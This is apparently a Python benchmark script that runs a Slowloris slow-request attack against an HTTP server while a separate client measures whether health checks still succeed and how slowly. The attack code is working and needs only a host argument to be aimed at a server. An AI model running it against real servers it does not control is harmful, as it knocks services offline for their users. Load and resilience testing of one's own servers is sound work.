#!/usr/bin/env python3
"""Slowloris against a running server, next to a well-behaved client.

For each attack size N: N connections each send a request head a byte every
few seconds and never end it, reopening at once when the server closes them.
Meanwhile a client asks GET /healthz on a new connection every 250 ms, with a
5 s timeout. Prints, per N, how many attack connections were open at the end,
how many the server had closed, and the well-behaved client's success rate and
latency (median and worst).

The attack connects to ATTACK_HOST, the probe to PROBE_HOST: two addresses
of the same server, so that they arrive as two different clients.

Usage: slow_clients.py PROBE_HOST ATTACK_HOST PORT SECONDS N [N ...]
"""
import asyncio
import multiprocessing
import statistics
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: bench\r\n"


async def slow_client(host, port, stop, counters):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counters["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        counters["open"] += 1
        try:
            writer.write(HEAD)
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=3)
                    if not data:
                        break  # the server closed it
                except asyncio.TimeoutError:
                    writer.write(b"X")
                    await writer.drain()
            else:
                return
            counters["closed_by_server"] += 1
        except OSError:
            counters["closed_by_server"] += 1
        finally:
            counters["open"] -= 1
            writer.close()


async def probe(host, port):
    started = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(64), 5 - (time.monotonic() - started))
        writer.close()
        return time.monotonic() - started if answer.startswith(b"HTTP/1.1 200") else None
    except (OSError, asyncio.TimeoutError):
        return None


async def run_attack(attack_host, port, size, seconds, report):
    stop = asyncio.Event()
    counters = {"open": 0, "closed_by_server": 0, "refused": 0}
    clients = [asyncio.create_task(slow_client(attack_host, port, stop, counters))
               for _ in range(size)]
    await asyncio.sleep(seconds)
    report.update(counters)
    stop.set()
    for client in clients:
        client.cancel()
    await asyncio.gather(*clients, return_exceptions=True)


def attacker(attack_host, port, size, seconds, report):
    """The attack in a process of its own, so that its work does not delay the probe."""
    asyncio.run(run_attack(attack_host, port, size, seconds, report))


async def probe_for(host, port, seconds):
    probes = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        probes.append(asyncio.create_task(probe(host, port)))
        await asyncio.sleep(0.25)
    return await asyncio.gather(*probes)


def attack(host, attack_host, port, seconds, size):
    report = multiprocessing.Manager().dict()
    child = multiprocessing.Process(
        target=attacker, args=(attack_host, port, size, seconds + 2, report))
    child.start()
    time.sleep(2)  # let them connect
    results = asyncio.run(probe_for(host, port, seconds))
    child.join()
    served = [r for r in results if r is not None]
    median = statistics.median(served) * 1000 if served else float("nan")
    worst = max(served) * 1000 if served else float("nan")
    print(f"{size:>6} {report['open']:>6} {report['closed_by_server']:>8} {report['refused']:>8} "
          f"{len(served):>4}/{len(results):<4} {median:>9.1f} {worst:>9.1f}", flush=True)
    time.sleep(3)


def main():
    host, attack_host = sys.argv[1], sys.argv[2]
    port, seconds = int(sys.argv[3]), float(sys.argv[4])
    print("  slow   open   cut-off  refused  served     p50 ms    max ms")
    for size in map(int, sys.argv[5:]):
        attack(host, attack_host, port, seconds, size)


if __name__ == "__main__":
    main()
